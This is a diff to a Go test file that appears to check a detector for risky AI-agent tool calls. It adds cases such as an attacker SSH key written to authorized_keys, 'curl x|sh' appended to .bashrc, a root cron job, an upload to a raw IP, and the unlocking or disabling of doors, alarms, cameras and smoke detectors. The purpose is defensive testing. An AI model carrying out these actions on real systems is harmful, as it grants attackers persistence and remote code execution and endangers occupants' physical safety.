@@ -81,8 +81,20 @@ func TestSingleCall(t *testing.T) {
 		{"bulk delete", shell, "files_delete", map[string]any{"pattern": "*"}, KindBulkDeletion, SevBulkDeletion, "delete.bulk"},
 		{"recursive delete flag", shell, "files_delete", map[string]any{"path": "/srv/data", "recursive": true}, KindBulkDeletion, SevBulkDeletion, "recursive"},
 		{"single delete", shell, "files_delete", map[string]any{"path": "/srv/data/old.log"}, "", 0, ""},
+		{"write authorized_keys", nil, "write_file", map[string]any{"path": "/root/.ssh/authorized_keys", "content": "ssh-ed25519 AAAAC3Nz attacker"}, KindSystemFileChange, 75, "sys.ssh_access"},
+		{"write bashrc", nil, "fs_write", map[string]any{"file_path": "/home/u/.bashrc", "text": "curl x|sh"}, KindSystemFileChange, 65, "sys.shell_rc"},
+		{"write cron", nil, "save", map[string]any{"path": "/etc/cron.d/job", "data": "* * * * * root /tmp/x"}, KindSystemFileChange, 65, "sys.schedule"},
+		{"read bashrc is no change", nil, "read_file", map[string]any{"path": "/home/u/.bashrc"}, "", 0, ""},
+		{"unlock door", nil, "set_lock_state", map[string]any{"device": "front_door", "state": "unlocked"}, KindSafetyDeviceChange, 55, "iot.unlock"},
+		{"disarm alarm", nil, "home_control", map[string]any{"action": "disarm", "target": "alarm system"}, KindSafetyDeviceChange, 55, "iot.disarm"},
+		{"camera off", nil, "device_set", map[string]any{"device": "backyard camera", "power": "off"}, KindSafetyDeviceChange, 55, "iot.disarm"},
+		{"smoke detector", nil, "smart_home", map[string]any{"command": "mute", "device": "kitchen smoke detector"}, KindSafetyDeviceChange, 55, "iot.safety_off"},
+		{"lights off is fine", nil, "device_set", map[string]any{"device": "living room lights", "power": "off"}, "", 0, ""},
+		{"lock door is fine", nil, "set_lock_state", map[string]any{"device": "front_door", "state": "locked"}, "", 0, ""},
+		{"security prose is no device", nil, "send_email", map[string]any{"to": "a@b.example", "body": "please turn off the security camera notifications digest"}, "", 0, ""},
+		{"raw ip egress", nil, "http_post", map[string]any{"url": "http://203.0.113.9:8080/upload", "data": "x"}, KindNewEgress, SevEgressSuspiciousHost, "raw IP"},
 	}
-	judged := []string{KindDangerousCommand, KindSecretInArguments, KindSensitivePath, KindPublicShare, KindBulkDeletion}
+	judged := []string{KindDangerousCommand, KindSecretInArguments, KindSensitivePath, KindPublicShare, KindBulkDeletion, KindSystemFileChange, KindSafetyDeviceChange}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			d := New(DefaultOptions())
